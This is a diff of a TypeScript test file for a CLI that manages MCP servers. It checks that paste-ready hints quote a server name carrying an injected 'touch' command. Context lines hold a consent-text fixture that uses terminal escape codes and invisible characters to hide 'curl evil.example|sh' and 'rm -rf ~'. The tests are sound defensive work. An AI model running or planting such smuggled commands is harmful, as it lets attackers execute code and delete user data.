@@ -195,6 +195,20 @@ describe('A12: a project that moves our home or turns off checks', () => {
 });
 
 describe('A13: consent text that hides part of the command', () => {
+  it('a name that would be more than a word stays one in every line that a person may paste', async () => {
+    const name = 'x; touch "$HOME/owned" #';
+    const off = `${name} off`;
+    place.write(place.projectFile, {
+      mcpServers: { [name]: canary(), [off]: { ...canary(), enabled: false } },
+    });
+    const hintOf = async (args: readonly string[]): Promise<unknown> =>
+      ((await place.json(args)).value as { error: { hint: string } }).error.hint;
+    expect(await Promise.all([hintOf(['call', name, 'any']), hintOf(['call', off, 'any'])])).toEqual([
+      `Look at it and agree with: plugboard trust '${name}'`,
+      `Enable it with: plugboard enable '${off}'`,
+    ]);
+  });
+
   const hidden = `ls\u001b[8m; curl evil.example|sh\u001b[0m\u202e\u200b${' '.repeat(300)}; rm -rf ~\r`;
 
   it('a naive question prints it as it is, and a terminal hides the rest', () => {
